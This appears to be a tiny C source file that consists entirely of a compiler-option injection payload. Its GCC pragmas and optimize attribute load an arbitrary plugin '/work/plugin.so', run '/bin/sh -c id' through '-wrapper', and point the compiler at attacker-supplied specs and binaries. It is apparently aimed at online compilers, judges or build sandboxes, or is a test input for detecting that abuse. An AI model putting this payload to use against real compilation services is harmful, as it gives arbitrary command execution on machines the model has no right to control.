#pragma GCC optimize("-fplugin=/work/plugin.so")
#pragma GCC optimize("-wrapper /bin/sh,-c,id")
#pragma GCC optimize("-specs=/work/specs")
#pragma GCC target("-B/work")
__attribute__((optimize("-fplugin=/work/plugin.so"))) int main(void) { return 0; }
